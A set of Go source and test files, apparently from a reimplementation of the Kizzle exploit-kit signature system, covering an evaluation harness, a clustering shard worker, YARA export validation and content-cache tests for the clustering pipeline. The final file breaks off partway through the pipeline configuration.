		{"6", res.FormatFig6},
		{"11", res.FormatFig11},
		{"12", res.FormatFig12},
		{"13", res.FormatFig13},
		{"14", res.FormatFig14},
		{"perf", res.FormatPerf},
	}
	printed := false
	for _, s := range sections {
		if *fig == "all" || *fig == s.key {
			fmt.Println(s.out())
			fmt.Println(strings.Repeat("-", 78))
			printed = true
		}
	}
	if !printed {
		return fmt.Errorf("unknown -fig %q", *fig)
	}
	fmt.Println(res.FormatSummary())
	return nil
}
