// Command evalmonth replays the paper's August 2014 evaluation (§IV) and
// prints every table and figure of the evaluation section: the Angler
// window of vulnerability (Fig 6), similarity over time (Fig 11), signature
// lengths (Fig 12), FP/FN rates (Fig 13), absolute counts (Fig 14), plus
// the static kit inventory (Fig 2) and Nuclear timeline (Fig 5).
//
// Usage:
//
//	evalmonth [-benign 1200] [-days 31] [-fig all|2|5|6|11|12|13|14|perf] \
//	          [-shards N] [-dispatch stream|batch] [-cachemb 64] [-cachedir dir] \
//	          [-profile js|webkit]
//
// -shards N routes the clustering stage through N in-process shard
// workers over the loopback transport (the paper's 50-machine layout at
// test scale; results are identical to -shards 0). -dispatch picks the
// protocol: stream (default; partitions flow to workers while dedup is
// still running and the reduce's distance sweeps fan out as edge jobs) or
// batch (protocol v1: one batch after dedup, reduce on the coordinator) —
// output is identical either way. -cachedir persists the month's content
// cache across invocations: a re-run — or the next day's run — starts
// warm instead of cold.
package main

import (
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"

	"kizzle"
	"kizzle/internal/contentcache"
	"kizzle/internal/ekit"
	"kizzle/internal/evalharness"
	"kizzle/internal/pipeline"
	"kizzle/internal/shardcoord"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "evalmonth:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("evalmonth", flag.ContinueOnError)
	benign := fs.Int("benign", 1200, "benign samples per day")
	days := fs.Int("days", 31, "number of August days to evaluate (1-31)")
	fig := fs.String("fig", "all", "which figure to print: all, 2, 5, 6, 11, 12, 13, 14, perf")
	slack := fs.Int("slack", 0, "signature length slack (0 = paper-faithful)")
	cacheMB := fs.Int("cachemb", 64, "content cache budget in MiB shared across the month (0 disables)")
	cacheDir := fs.String("cachedir", "", "persist the content cache to this directory (load at start, save at end)")
	shards := fs.Int("shards", 0, "cluster via N loopback shard workers (0 = in-process)")
	dispatch := fs.String("dispatch", "stream", "shard dispatch mode: stream (partitions flow while dedup runs, reduce sweeps fan out) or batch (protocol v1: one batch after dedup, reduce on the coordinator)")
	sweep := fs.String("sweep", "", "sweep the labeling threshold for this family instead of running figures")
	profile := fs.String("profile", "js", "ingest profile to compile the stream with; non-js profiles namespace families profile/family")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if *days < 1 || *days > 31 {
		return fmt.Errorf("-days %d outside 1-31", *days)
	}
	if *shards < 0 {
		return fmt.Errorf("-shards %d must be >= 0", *shards)
	}
	if *cacheDir != "" && *cacheMB <= 0 {
		return fmt.Errorf("-cachedir requires -cachemb > 0")
	}
	if *dispatch != "stream" && *dispatch != "batch" {
		return fmt.Errorf("-dispatch %q must be stream or batch", *dispatch)
	}
	if !slices.Contains(kizzle.Profiles(), *profile) {
		return fmt.Errorf("-profile %q: unknown ingest profile (registered: %s)",
			*profile, strings.Join(kizzle.Profiles(), ", "))
	}
	if *sweep != "" {
		scfg := evalharness.DefaultSweepWindow(*benign)
		points, err := evalharness.SweepThreshold(*sweep,
			[]float64{0.3, 0.45, 0.6, 0.75, 0.88, 0.95}, scfg)
		if err != nil {
			return err
		}
		fmt.Println(evalharness.FormatSweep(*sweep, points))
		return nil
	}

	// Static figures need no run.
	static := map[string]func() string{"2": evalharness.FormatFig2, "5": evalharness.FormatFig5}
	if f, ok := static[*fig]; ok {
		fmt.Println(f())
		return nil
	}

	cfg := evalharness.DefaultConfig()
	cfg.Profile = *profile
	cfg.Stream.BenignPerDay = *benign
	cfg.Pipeline.Signature.LengthSlack = *slack
	cfg.Days = ekit.AugustDays()[:*days]
	if *cacheMB <= 0 {
		cfg.CacheBytes = -1 // disabled
	} else {
		cfg.CacheBytes = *cacheMB << 20
	}

	// Persistent cache: restore last invocation's snapshot before the run.
	if *cacheDir != "" {
		cache, stats, err := contentcache.Load(*cacheDir, pipeline.CacheCodecs(), *cacheMB<<20)
		if err != nil {
			return fmt.Errorf("load cache: %w", err)
		}
		cfg.Pipeline.Cache = cache
		fmt.Fprintf(os.Stderr, "cache: restored %d entries from %s (%d corrupt segments skipped)\n",
			stats.Entries, *cacheDir, stats.CorruptSegments)
	}

	// Sharded clustering: N loopback workers, each modeling one machine of
	// the paper's layout with an equal slice of the local CPU budget. With
	// -cachedir, each worker's verdict cache persists under its own
	// subdirectory — exactly what a kizzleshard fleet does with its own
	// -cachedir — so a restarted sharded run keeps the clustering warm
	// path too, not just the coordinator-side artifacts.
	var workerCaches []*contentcache.Cache
	workerCacheDir := func(i int) string { return filepath.Join(*cacheDir, fmt.Sprintf("shard-%d", i)) }
	if *shards > 0 {
		perWorker := runtime.GOMAXPROCS(0) / *shards
		if perWorker < 1 {
			perWorker = 1
		}
		workers := make([]*shardcoord.Worker, *shards)
		for i := range workers {
			opts := []shardcoord.WorkerOption{shardcoord.WithWorkerParallelism(perWorker)}
			if *cacheMB > 0 {
				budget := *cacheMB << 20 / *shards
				var wc *contentcache.Cache
				if *cacheDir != "" {
					loaded, stats, err := contentcache.Load(workerCacheDir(i), pipeline.CacheCodecs(), budget)
					if err != nil {
						return fmt.Errorf("load shard %d cache: %w", i, err)
					}
					fmt.Fprintf(os.Stderr, "cache: shard %d restored %d entries\n", i, stats.Entries)
					wc = loaded
				} else {
					wc = contentcache.New(budget)
				}
				workerCaches = append(workerCaches, wc)
				opts = append(opts, shardcoord.WithWorkerCache(wc))
			}
			workers[i] = shardcoord.NewWorker(opts...)
		}
		cfg.Pipeline.Clusterer = shardcoord.NewCoordinator(shardcoord.NewLoopback(workers))
	}
	// Applies with or without shards: the in-process path has the same
	// streamed vs batch split, so -dispatch batch A/Bs the protocol-v1
	// cost model at -shards 0 too instead of being silently ignored.
	cfg.Pipeline.BatchDispatch = *dispatch == "batch"

	fmt.Fprintf(os.Stderr, "running %d days at %d benign samples/day (%d shards)...\n", *days, *benign, *shards)
	res, err := evalharness.Run(cfg)
	if err != nil {
		return err
	}

	// Snapshot the warmed caches for the next invocation: the
	// coordinator-side artifact cache, plus each loopback worker's
	// verdict cache.
	if *cacheDir != "" {
		stats, err := cfg.Pipeline.Cache.Save(*cacheDir, pipeline.CacheCodecs())
		if err != nil {
			return fmt.Errorf("save cache: %w", err)
		}
		fmt.Fprintf(os.Stderr, "cache: persisted %d entries (%d segments, %d bytes) to %s\n",
			stats.Entries, stats.Segments, stats.Bytes, *cacheDir)
		for i, wc := range workerCaches {
			wstats, err := wc.Save(workerCacheDir(i), pipeline.CacheCodecs())
			if err != nil {
				return fmt.Errorf("save shard %d cache: %w", i, err)
			}
			fmt.Fprintf(os.Stderr, "cache: shard %d persisted %d entries\n", i, wstats.Entries)
		}
	}

	sections := []struct {
		key string
		out func() string
	}{
		{"2", evalharness.FormatFig2},
		{"5", evalharness.FormatFig5},
		{"6", res.FormatFig6},
		{"11", res.FormatFig11},
		{"12", res.FormatFig12},
		{"13", res.FormatFig13},
		{"14", res.FormatFig14},
		{"perf", res.FormatPerf},
	}
	printed := false
	for _, s := range sections {
		if *fig == "all" || *fig == s.key {
			fmt.Println(s.out())
			fmt.Println(strings.Repeat("-", 78))
			printed = true
		}
	}
	if !printed {
		return fmt.Errorf("unknown -fig %q", *fig)
	}
	fmt.Println(res.FormatSummary())
	return nil
}
