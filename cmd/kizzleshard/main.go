// Command kizzleshard is a clustering shard worker — one machine of the
// paper's 50-machine layout. It serves POST /partition (a clustering work
// unit dispatched by a coordinator, see internal/shardcoord) and GET
// /healthz, and optionally keeps a disk-backed verdict cache so a
// restarted worker retains its warm-day economics.
//
// Usage:
//
//	kizzleshard [-listen :9191] [-workers N] [-cachemb 64] [-cachedir dir] [-residentmb MB]
//
// With -cachedir the worker loads the previous snapshot at startup and
// saves on SIGINT/SIGTERM; corrupt snapshots degrade to a cold cache.
// With -residentmb the worker keeps a bounded digest-addressed resident
// set of the sequences it has seen and serves the digest-first edge
// endpoint POST /edges3, letting an affinity-aware coordinator ship
// 20-byte content keys instead of sequence bytes on the edge path.
package main

import (
	"flag"
	"fmt"
	"log"
	"net/http"
	"os"
	"os/signal"
	"runtime"
	"syscall"

	"kizzle/internal/contentcache"
	"kizzle/internal/pipeline"
	"kizzle/internal/shardcoord"
)

func main() {
	if err := run(os.Args[1:], nil, nil); err != nil {
		fmt.Fprintln(os.Stderr, "kizzleshard:", err)
		os.Exit(1)
	}
}

// run configures the worker. When ready is non-nil the handler is sent to
// it instead of binding a listener (test hook); run then blocks until quit
// closes and saves the cache before returning, mirroring the signal path.
func run(args []string, ready chan<- http.Handler, quit <-chan struct{}) error {
	fs := flag.NewFlagSet("kizzleshard", flag.ContinueOnError)
	listen := fs.String("listen", ":9191", "address to serve on")
	workers := fs.Int("workers", runtime.GOMAXPROCS(0), "clustering parallelism per partition request")
	cacheMB := fs.Int("cachemb", 64, "pair-verdict cache budget in MiB (0 disables)")
	cacheDir := fs.String("cachedir", "", "directory for the persistent cache snapshot (optional)")
	residentMB := fs.Int("residentmb", 0, "resident sequence set budget in MiB for digest-first edge jobs (0 disables /edges3)")
	if err := fs.Parse(args); err != nil {
		return err
	}

	opts := []shardcoord.WorkerOption{shardcoord.WithWorkerParallelism(*workers)}
	if *residentMB > 0 {
		opts = append(opts, shardcoord.WithWorkerResidentBudget(*residentMB<<20))
	}
	var cache *contentcache.Cache
	if *cacheMB > 0 {
		budget := *cacheMB << 20
		if *cacheDir != "" {
			var stats contentcache.LoadStats
			var err error
			cache, stats, err = contentcache.Load(*cacheDir, pipeline.CacheCodecs(), budget)
			if err != nil {
				return fmt.Errorf("load cache: %w", err)
			}
			log.Printf("cache: restored %d entries from %s (%d corrupt segments, %d stale entries skipped)",
				stats.Entries, *cacheDir, stats.CorruptSegments, stats.SkippedEntries)
		} else {
			cache = contentcache.New(budget)
		}
		opts = append(opts, shardcoord.WithWorkerCache(cache))
	} else if *cacheDir != "" {
		return fmt.Errorf("-cachedir requires -cachemb > 0")
	}

	worker := shardcoord.NewWorker(opts...)
	handler := worker.Handler()

	save := func() error {
		if *cacheDir == "" {
			return nil
		}
		stats, err := cache.Save(*cacheDir, pipeline.CacheCodecs())
		if err != nil {
			return fmt.Errorf("save cache: %w", err)
		}
		log.Printf("cache: persisted %d entries (%d segments, %d bytes) to %s",
			stats.Entries, stats.Segments, stats.Bytes, *cacheDir)
		return nil
	}

	if ready != nil {
		ready <- handler
		if quit != nil {
			<-quit
		}
		return save()
	}

	// Persist the cache on graceful shutdown.
	sigc := make(chan os.Signal, 1)
	signal.Notify(sigc, syscall.SIGINT, syscall.SIGTERM)
	errc := make(chan error, 1)
	go func() {
		log.Printf("kizzleshard on %s (workers %d, cache %d MiB)", *listen, *workers, *cacheMB)
		errc <- http.ListenAndServe(*listen, handler)
	}()
	select {
	case err := <-errc:
		return err
	case sig := <-sigc:
		log.Printf("received %s, shutting down", sig)
		return save()
	}
}
