package main

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strings"
	"testing"

	"kizzle/internal/shardcoord"
)

// startWorker runs the binary's configuration path and returns its
// handler plus a shutdown func that triggers the save-on-exit path.
func startWorker(t *testing.T, args []string) (http.Handler, func()) {
	t.Helper()
	ready := make(chan http.Handler, 1)
	quit := make(chan struct{})
	done := make(chan error, 1)
	go func() { done <- run(args, ready, quit) }()
	h := <-ready
	return h, func() {
		t.Helper()
		close(quit)
		if err := <-done; err != nil {
			t.Fatal(err)
		}
	}
}

func postPartition(t *testing.T, h http.Handler, body string) *httptest.ResponseRecorder {
	t.Helper()
	req := httptest.NewRequest(http.MethodPost, "/partition", strings.NewReader(body))
	req.Header.Set("Content-Type", "application/json")
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, req)
	return rec
}

func TestWorkerServesPartition(t *testing.T) {
	h, shutdown := startWorker(t, []string{"-workers", "2", "-cachemb", "8"})
	defer shutdown()

	// Identical pair clusters; singleton far away is noise.
	rec := postPartition(t, h, `{"eps":0.3,"minPts":2,"partition":{
		"seqs":[[1,2,3,4],[1,2,3,4],[9,9,9,9,9,9,9,9,9,9,9,9]],
		"weights":[1,1,1]}}`)
	if rec.Code != http.StatusOK {
		t.Fatalf("POST /partition: %d %s", rec.Code, rec.Body.String())
	}
	var resp shardcoord.PartitionResponse
	if err := json.Unmarshal(rec.Body.Bytes(), &resp); err != nil {
		t.Fatal(err)
	}
	if len(resp.Clusters) != 1 || len(resp.Noise) != 1 {
		t.Fatalf("clusters=%v noise=%v", resp.Clusters, resp.Noise)
	}

	// Health endpoint reports cache occupancy.
	hreq := httptest.NewRequest(http.MethodGet, "/healthz", nil)
	hrec := httptest.NewRecorder()
	h.ServeHTTP(hrec, hreq)
	if hrec.Code != http.StatusOK || !strings.Contains(hrec.Body.String(), "cache-entries=") {
		t.Fatalf("healthz: %d %q", hrec.Code, hrec.Body.String())
	}

	// Metrics endpoint counts the work unit just served.
	mreq := httptest.NewRequest(http.MethodGet, "/metrics", nil)
	mrec := httptest.NewRecorder()
	h.ServeHTTP(mrec, mreq)
	if mrec.Code != http.StatusOK {
		t.Fatalf("metrics: %d", mrec.Code)
	}
	var m struct {
		Partitions   int64          `json:"partitions"`
		WorkLatency  map[string]any `json:"work_latency"`
		CacheEntries int64          `json:"cache_entries"`
		Runtime      map[string]any `json:"runtime"`
	}
	if err := json.Unmarshal(mrec.Body.Bytes(), &m); err != nil {
		t.Fatalf("metrics not JSON: %v\n%s", err, mrec.Body.String())
	}
	if m.Partitions != 1 {
		t.Errorf("partitions = %d, want 1", m.Partitions)
	}
	if m.WorkLatency == nil || m.Runtime == nil {
		t.Error("metrics missing work_latency or runtime")
	}
}

func TestWorkerRejectsBadRequests(t *testing.T) {
	h, shutdown := startWorker(t, []string{"-cachemb", "0"})
	defer shutdown()
	if rec := postPartition(t, h, "{broken"); rec.Code != http.StatusBadRequest {
		t.Fatalf("malformed body: %d", rec.Code)
	}
	// Symbol far outside the abstraction alphabet must be rejected, not
	// crash the worker.
	if rec := postPartition(t, h, `{"eps":0.1,"minPts":2,"partition":{"seqs":[[65535]],"weights":[1]}}`); rec.Code != http.StatusBadRequest {
		t.Fatalf("out-of-alphabet symbol: %d", rec.Code)
	}
}

func TestWorkerCachePersistsAcrossRestart(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "cache")
	args := []string{"-workers", "1", "-cachemb", "8", "-cachedir", dir}

	// First life: serve one partition (warming the verdict cache), then
	// shut down — run saves the snapshot on the way out.
	h, shutdown := startWorker(t, args)
	body := `{"eps":0.3,"minPts":2,"partition":{
		"seqs":[[1,2,3,4,5,6],[1,2,3,4,5,7],[8,8,8,8,8,8,8,8,8,8,8,8,8,8]],
		"weights":[1,1,1]}}`
	if rec := postPartition(t, h, body); rec.Code != http.StatusOK {
		t.Fatalf("first life: %d", rec.Code)
	}
	shutdown()

	// Second life: the snapshot must be loaded before any request runs.
	h2, shutdown2 := startWorker(t, args)
	defer shutdown2()
	hreq := httptest.NewRequest(http.MethodGet, "/healthz", nil)
	hrec := httptest.NewRecorder()
	h2.ServeHTTP(hrec, hreq)
	out := hrec.Body.String()
	if strings.Contains(out, "cache-entries=0 ") {
		t.Fatalf("restarted worker came up with an empty cache: %q", out)
	}
	if rec := postPartition(t, h2, body); rec.Code != http.StatusOK {
		t.Fatalf("second life: %d", rec.Code)
	}
}

func TestWorkerFlagValidation(t *testing.T) {
	if err := run([]string{"-cachemb", "0", "-cachedir", t.TempDir()}, nil, nil); err == nil {
		t.Fatal("-cachedir without a cache budget must fail")
	}
}
