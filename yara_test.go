package kizzle

import (
	"strings"
	"testing"

	"kizzle/internal/siggen"
)

// sigFromElements builds a public Signature around hand-authored
// elements, the way only the compiler normally does — the YARA renderer
// is exercised element-kind by element-kind.
func sigFromElements(family string, samples int, elems ...siggen.Element) Signature {
	return Signature{inner: siggen.Signature{Family: family, Elements: elems, Samples: samples}}
}

// TestExportYARARendering pins the export's three rendering rules: rule
// names are sanitized family names with a uniquing suffix, literals are
// escaped for YARA's /.../ delimiters, and back-references become the
// referenced group's class repetition (the documented
// over-approximation — YARA has no backrefs).
func TestExportYARARendering(t *testing.T) {
	sigs := []Signature{
		sigFromElements("webkit/strato_v2", 7,
			siggen.Element{Kind: siggen.KindLiteral, Literal: `eval(a/b)` + "\n", Group: -1},
			siggen.Element{Kind: siggen.KindClass, Class: `[a-z]`, MinLen: 3, MaxLen: 5, Group: 0},
			siggen.Element{Kind: siggen.KindBackref, Group: 0},
		),
		sigFromElements("webkit/strato_v2", 2,
			siggen.Element{Kind: siggen.KindClass, Class: `[0-9]`, MinLen: 4, MaxLen: 4, Group: -1},
		),
	}
	out := ExportYARA(sigs)
	if err := ValidateYARA(out); err != nil {
		t.Fatalf("export failed its own validator: %v", err)
	}
	// Sanitized, uniqued rule names: the slash becomes '_' and the two
	// same-family rules get distinct suffixes.
	for _, want := range []string{"rule kizzle_webkit_strato_v2_1", "rule kizzle_webkit_strato_v2_2"} {
		if !strings.Contains(out, want) {
			t.Errorf("export missing %q:\n%s", want, out)
		}
	}
	// The literal's slash and newline are escaped so the regex stays a
	// one-line /.../ pattern.
	if !strings.Contains(out, `a\/b`) {
		t.Errorf("forward slash not escaped for YARA delimiters:\n%s", out)
	}
	if !strings.Contains(out, `\n`) || strings.Count(out, "$sig = /") != 2 {
		t.Errorf("literal newline leaked into the pattern:\n%s", out)
	}
	// Backref over-approximation: the captured class and quantifier
	// appear twice in a row.
	if !strings.Contains(out, `[a-z]{3,5}[a-z]{3,5}`) {
		t.Errorf("backref not rendered as class repetition:\n%s", out)
	}
	// Exact-length quantifier collapses to {n}; metadata carries the
	// original family name.
	if !strings.Contains(out, `[0-9]{4}`) {
		t.Errorf("exact-length quantifier not collapsed:\n%s", out)
	}
	if !strings.Contains(out, `family = "webkit/strato_v2"`) {
		t.Errorf("family metadata missing:\n%s", out)
	}
}

// TestValidateYARARejections covers the checker's rejection surface with
// minimal malformed rulesets — each is one structural mutation away from
// a valid file.
func TestValidateYARARejections(t *testing.T) {
	valid := "rule ok\n{\n    strings:\n        $sig = /abc/\n    condition:\n        $sig\n}\n"
	if err := ValidateYARA(valid); err != nil {
		t.Fatalf("baseline ruleset rejected: %v", err)
	}
	cases := []struct {
		name    string
		ruleset string
		wantErr string
	}{
		{"empty", "", "no rules"},
		{"comments only", "// nothing here\n", "no rules"},
		{"bad rule name", "rule 9lives\n{\n    condition:\n        true\n}\n", "invalid rule name"},
		{"duplicate rule name", valid + strings.ReplaceAll(valid, "/abc/", "/def/"), "duplicate rule name"},
		{"unterminated body", "rule ok\n{\n    condition:\n        true\n", "never closed"},
		{"rule inside rule", "rule a\n{\n    condition:\n        true\nrule b\n{\n    condition:\n        true\n}\n}\n", "not closed before the next rule"},
		{"no condition", "rule ok\n{\n    strings:\n        $sig = /abc/\n}\n", "no condition section"},
		{"undefined string ref", "rule ok\n{\n    strings:\n        $sig = /abc/\n    condition:\n        $other\n}\n", "undefined string $other"},
		{"malformed string entry", "rule ok\n{\n    strings:\n        sig = /abc/\n    condition:\n        true\n}\n", "malformed string entry"},
		{"unterminated regex", "rule ok\n{\n    strings:\n        $sig = /abc\n    condition:\n        $sig\n}\n", "unterminated regex"},
		{"regex closed by escaped slash", "rule ok\n{\n    strings:\n        $sig = /abc\\/\n    condition:\n        $sig\n}\n", "unterminated regex"},
		{"empty regex", "rule ok\n{\n    strings:\n        $sig = //\n    condition:\n        $sig\n}\n", "empty regex"},
		{"unterminated text string", "rule ok\n{\n    strings:\n        $sig = \"abc\n    condition:\n        $sig\n}\n", "unterminated text string"},
		{"content outside rule", "stray line\n" + valid, "unexpected content outside a rule"},
		{"body content before section", "rule ok\n{\n    floating\n    condition:\n        true\n}\n", "content before any section"},
		{"brace outside rule", "{\n", "'{' outside a rule"},
		{"close outside rule", "}\n", "'}' outside a rule body"},
		{"malformed meta", "rule ok\n{\n    meta:\n        broken entry\n    condition:\n        true\n}\n", "malformed meta entry"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			err := ValidateYARA(tc.ruleset)
			if err == nil {
				t.Fatalf("malformed ruleset accepted:\n%s", tc.ruleset)
			}
			if !strings.Contains(err.Error(), tc.wantErr) {
				t.Fatalf("error %q does not mention %q", err, tc.wantErr)
			}
		})
	}
}
