package pipeline

import (
	"fmt"
	"reflect"
	"testing"

	"kizzle/internal/contentcache"
	"kizzle/internal/ekit"
	"kizzle/internal/jstoken"
	"kizzle/internal/parallel"
	"kizzle/internal/winnow"
)

func dayInputs(t testing.TB, day, benign int) []Input {
	t.Helper()
	scfg := ekit.DefaultStreamConfig()
	scfg.BenignPerDay = benign
	stream, err := ekit.NewStream(scfg)
	if err != nil {
		t.Fatal(err)
	}
	samples := stream.Day(day)
	inputs := make([]Input, len(samples))
	for i, s := range samples {
		inputs[i] = Input{ID: s.ID, Content: s.Content}
	}
	return inputs
}

func seededCorpus(day int) *Corpus {
	corpus := NewCorpus(winnow.DefaultConfig(), 16)
	for _, fam := range ekit.Families {
		corpus.Add(fam.String(), ekit.Payload(fam, day-1))
	}
	return corpus
}

// stripTimings zeroes the run-dependent stats so results compare by value.
// LabelSweeps is cache-dependent by design (warm label slices skip their
// family sweeps), so it is stripped alongside the hit counters.
func stripTimings(r *Result) {
	r.Stats.Tokenize, r.Stats.Cluster, r.Stats.Reduce = 0, 0, 0
	r.Stats.Label, r.Stats.Signature = 0, 0
	r.Stats.CacheHits, r.Stats.CacheMisses = 0, 0
	r.Stats.LabelSweeps = 0
}

// TestProcessCachedMatchesUncached pins the tentpole's correctness
// property: a content cache must never change pipeline output — not on a
// cold run, not on a warm re-run, and not on a subsequent day that
// partially overlaps cached content.
func TestProcessCachedMatchesUncached(t *testing.T) {
	day := ekit.Date(8, 5)
	inputs := dayInputs(t, day, 120)
	// Duplicate a slice of the batch, as provider telemetry would.
	inputs = append(inputs, inputs[:40]...)
	cfg := DefaultConfig()

	ref, err := Process(inputs, seededCorpus(day), cfg)
	if err != nil {
		t.Fatal(err)
	}

	cache := contentcache.New(32 << 20)
	cfgCached := cfg
	cfgCached.Cache = cache
	for run := 0; run < 3; run++ {
		// A fresh corpus per run: the corpus is stateless across Process
		// calls here, so outputs must be identical run over run.
		got, err := Process(inputs, seededCorpus(day), cfgCached)
		if err != nil {
			t.Fatal(err)
		}
		stripTimings(&got)
		refCopy := ref
		stripTimings(&refCopy)
		if !reflect.DeepEqual(refCopy.Clusters, got.Clusters) {
			t.Fatalf("run %d: cached clusters diverged from uncached", run)
		}
		if !reflect.DeepEqual(refCopy.Signatures, got.Signatures) {
			t.Fatalf("run %d: cached signatures diverged from uncached", run)
		}
		if got.Stats.UniqueDocuments >= got.Stats.Samples {
			t.Fatalf("run %d: pre-dedup found no duplicates in a batch with 40", run)
		}
	}
	if st := cache.Stats(); st.Hits == 0 {
		t.Fatal("warm runs produced no cache hits")
	}

	// Day N+1 with the same warm cache must equal an uncached day N+1.
	day2 := day + 1
	inputs2 := dayInputs(t, day2, 120)
	want2, err := Process(inputs2, seededCorpus(day2), cfg)
	if err != nil {
		t.Fatal(err)
	}
	got2, err := Process(inputs2, seededCorpus(day2), cfgCached)
	if err != nil {
		t.Fatal(err)
	}
	stripTimings(&want2)
	stripTimings(&got2)
	if !reflect.DeepEqual(want2, got2) {
		t.Fatal("day N+1 with warm cache diverged from uncached run")
	}
}

// tokenizeAll reconstructs the pre-streaming tokenize stage from the
// fused stage's building blocks, for direct unit testing: digest-group
// the batch, lex one representative per group, assign shared slices.
func tokenizeAll(inputs []Input, cache *contentcache.Cache, workers int) ([][]jstoken.Symbol, int) {
	if cache == nil {
		cache = contentcache.New(1 << 20)
	}
	cfg := DefaultConfig()
	cfg.Workers = workers
	cfg.Cache = cache
	groups, groupOf := digestGroups(inputs, kindRawSymbols, workers)
	groupSyms := lexGroupsForTest(inputs, groups, cfg)
	symbols := make([][]jstoken.Symbol, len(inputs))
	for i := range inputs {
		symbols[i] = groupSyms[groupOf[i]]
	}
	return symbols, len(groups)
}

func lexGroupsForTest(inputs []Input, groups [][]int, cfg Config) [][]jstoken.Symbol {
	groupSyms := make([][]jstoken.Symbol, len(groups))
	scratches := make([]jstoken.Scratch, cfg.Workers)
	parallel.ForEach(len(groups), cfg.Workers, 1, func(worker, g int) {
		content := inputs[groups[g][0]].Content
		key := contentcache.KeyOf(kindRawSymbols, content)
		if v, ok := cfg.Cache.Get(key, content); ok {
			groupSyms[g] = v.([]jstoken.Symbol)
			return
		}
		syms := scratches[worker].AppendSymbols(nil, content)
		cfg.Cache.PutSized(key, content, syms, 2*len(syms))
		groupSyms[g] = syms
	})
	return groupSyms
}

// TestTokenizeAllDedup exercises the digest pre-dedup directly: duplicates
// share one symbol slice, distinct documents do not collapse.
func TestTokenizeAllDedup(t *testing.T) {
	inputs := []Input{
		{ID: "a", Content: "var x = 1;"},
		{ID: "b", Content: "var y = 2;"},
		{ID: "c", Content: "var x = 1;"}, // dup of a
		{ID: "d", Content: ""},
		{ID: "e", Content: "var x = 1;"}, // dup of a
	}
	symbols, uniq := tokenizeAll(inputs, nil, 2)
	if uniq != 3 {
		t.Fatalf("unique documents = %d, want 3", uniq)
	}
	if &symbols[0][0] != &symbols[2][0] || &symbols[0][0] != &symbols[4][0] {
		t.Error("duplicate documents do not share one symbol slice")
	}
	// "var x = 1;" and "var y = 2;" abstract to the same symbol sequence,
	// but as distinct raw documents they must not share a backing slice —
	// raw pre-dedup groups by bytes, not by abstraction.
	if &symbols[0][0] == &symbols[1][0] {
		t.Error("distinct raw documents share a symbol slice")
	}
	for i, in := range inputs {
		want, _ := tokenizeAll([]Input{in}, nil, 1)
		if !symbolsEqual(want[0], symbols[i]) {
			t.Errorf("input %d: batched symbols diverge from solo lexing", i)
		}
	}
}

// TestTokenizeAllCacheReuse checks that a second batch reuses cached
// symbol sequences rather than re-lexing.
func TestTokenizeAllCacheReuse(t *testing.T) {
	cache := contentcache.New(1 << 20)
	inputs := make([]Input, 20)
	for i := range inputs {
		inputs[i] = Input{ID: fmt.Sprint(i), Content: fmt.Sprintf("var v%d = %d;", i%7, i%7)}
	}
	first, _ := tokenizeAll(inputs, cache, 4)
	second, _ := tokenizeAll(inputs, cache, 4)
	for i := range first {
		if &first[i][0] != &second[i][0] {
			t.Fatalf("input %d re-lexed despite warm cache", i)
		}
	}
	if st := cache.Stats(); st.Hits == 0 {
		t.Fatal("no cache hits on identical second batch")
	}
}

// TestFingerprintCachedConfigMismatch ensures a cached histogram under one
// winnow configuration is not returned for another.
func TestFingerprintCachedConfigMismatch(t *testing.T) {
	cache := contentcache.New(1 << 20)
	text := "var buffer = ''; buffer += chunk; document.body.appendChild(el);"
	a := FingerprintCached(cache, nil, text, winnow.Config{K: 5, Window: 8})
	b := FingerprintCached(cache, nil, text, winnow.Config{K: 3, Window: 4})
	if reflect.DeepEqual(a, b) {
		t.Fatal("different winnow configs returned the same cached histogram")
	}
	c := FingerprintCached(cache, nil, text, winnow.Config{K: 3, Window: 4})
	if !reflect.DeepEqual(b, c) {
		t.Fatal("same config did not reuse the cached histogram")
	}
	if !reflect.DeepEqual(winnow.Fingerprint(text, winnow.Config{K: 3, Window: 4}), c) {
		t.Fatal("cached histogram diverges from direct fingerprint")
	}
}
