// Package pipeline is Kizzle's main driver (paper Figure 7): partition the
// day's samples across clustering workers, cluster each partition with
// DBSCAN over normalized token edit distance, reconcile partition clusters
// in a reduce step, label each merged cluster by unpacking its prototype
// and winnow-matching it against the known-kit corpus, and generate a
// structural signature for every malicious cluster.
package pipeline

import (
	"errors"
	"fmt"
	"math/rand"
	"runtime"
	"sync"
	"time"

	"kizzle/internal/dbscan"
	"kizzle/internal/jstoken"
	"kizzle/internal/parallel"
	"kizzle/internal/siggen"
	"kizzle/internal/textdist"
	"kizzle/internal/unpack"
	"kizzle/internal/winnow"
)

// Input is one grayware sample handed to the pipeline.
type Input struct {
	// ID identifies the sample in results.
	ID string
	// Content is the HTML document (or raw JavaScript).
	Content string
}

// Config holds the pipeline's tuning knobs (paper §V "Tuning the ML").
type Config struct {
	// Workers is the clustering parallelism (the paper used 50 machines;
	// workers here are goroutines). Defaults to GOMAXPROCS.
	Workers int
	// PartitionSize is the target number of unique token sequences per
	// partition.
	PartitionSize int
	// Eps is the normalized edit-distance threshold for DBSCAN; the
	// paper determined 0.10 experimentally.
	Eps float64
	// MinPts is DBSCAN's minimum weighted neighborhood size.
	MinPts int
	// Winnow configures cluster-labeling fingerprints.
	Winnow winnow.Config
	// Signature configures signature generation.
	Signature siggen.Config
	// Thresholds maps family label to the minimum winnow overlap needed
	// to label a cluster with that family ("a threshold that we
	// determined empirically is malware family specific").
	Thresholds map[string]float64
	// DefaultThreshold applies to families missing from Thresholds.
	DefaultThreshold float64
	// MaxNoiseRecluster caps the reduce step's global re-clustering of
	// partition-level noise (0 disables the cap).
	MaxNoiseRecluster int
	// MaxSignatureSamples caps how many cluster samples feed signature
	// generalization.
	MaxSignatureSamples int
}

// DefaultConfig returns the parameters used throughout the evaluation.
func DefaultConfig() Config {
	return Config{
		Workers:       runtime.GOMAXPROCS(0),
		PartitionSize: 300,
		Eps:           0.10,
		MinPts:        2,
		Winnow:        winnow.DefaultConfig(),
		Signature:     siggen.DefaultConfig(),
		// Family-specific thresholds, "determined empirically". Nuclear
